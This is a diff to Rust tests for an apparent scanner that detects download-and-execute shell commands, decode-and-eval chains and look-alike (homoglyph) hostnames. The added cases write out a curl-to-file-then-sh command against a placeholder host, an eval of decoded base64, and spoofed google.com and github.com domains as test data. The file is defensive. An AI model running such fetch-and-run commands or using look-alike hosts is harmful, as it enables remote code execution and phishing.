@@ -641,6 +641,10 @@ fn a_download_run_by_a_later_line_or_through_a_variable_is_found() {
             "kept in `$X` and `eval` runs it",
         ),
         (
+            "curl -s https://dl.invalid/x 2>/dev/null > i.sh; sh i.sh",
+            "saves `i.sh` and `sh` runs it",
+        ),
+        (
             "X=$(curl -s https://dl.invalid/x | tr -d '\\r'); eval \"$X\"",
             "kept in `$X` and `eval` runs it",
         ),
@@ -682,6 +686,9 @@ fn a_download_run_by_a_later_line_or_through_a_variable_is_found() {
         // wget's `-o` is its log; `-O -` is standard output.
         "wget -o get.sh https://dl.invalid/x\nbash get.sh",
         "curl -s https://dl.invalid/x -o -\nsh -",
+        // A version read from a release feed, used in a URL: data, not the program.
+        "V=$(curl -s https://api.github.com/repos/docker/compose/releases/latest | grep tag_name | cut -d\\\" -f4)\nsudo sh -c \"curl -L https://github.com/docker/compose/releases/download/${V}/docker-compose -o /usr/local/bin/docker-compose\"",
+        "V=$(curl -s https://dl.invalid/version)\nsh -c \"echo installing $V\"",
     ] {
         assert_eq!(rce(code), None, "{code}");
     }
@@ -756,6 +763,7 @@ fn decode_and_execute_is_found_but_decoding_to_a_file_is_not() {
         "X=$(echo aGVsbG8gd29ybGQ= | base64 -d)\necho \"$X\" | wc -l",
         "X=$(echo aGVsbG8gd29ybGQ= | base64 -d | sha256sum)\neval \"$X\"",
         "X=$(echo aGVsbG8gd29ybGQ= | base64 -d)\ncat \"$X\" | sh",
+        "X=$(echo aGVsbG8gd29ybGQ= | base64 -d | grep -e'[cl]*')\neval \"$X\"",
     ] {
         assert_eq!(decode(code), None, "{code}");
     }
@@ -791,6 +799,17 @@ fn a_host_written_with_look_alike_letters_is_found() {
             "# Use\n\nLog in at https://\u{430}\u{440}\u{440}\u{4cf}\u{435}.com/id first.\n",
             8,
             "reads as `apple.com` but is another host (it is written wholly in Cyrillic",
+        ),
+        // Latin mixed with an Armenian `օ`; a dotless `ı` outside Turkish names.
+        (
+            "# Use\n\nSee https://g\u{585}\u{585}gle.com/ now.\n",
+            8,
+            "reads as `google.com`",
+        ),
+        (
+            "# Use\n\nSee https://g\u{131}thub.com/x now.\n",
+            8,
+            "reads as `github.com` but is another host (it is written with `\u{131}`",
         ),
         // Cyrillic under a Greek top-level domain is not the norm there.
         (
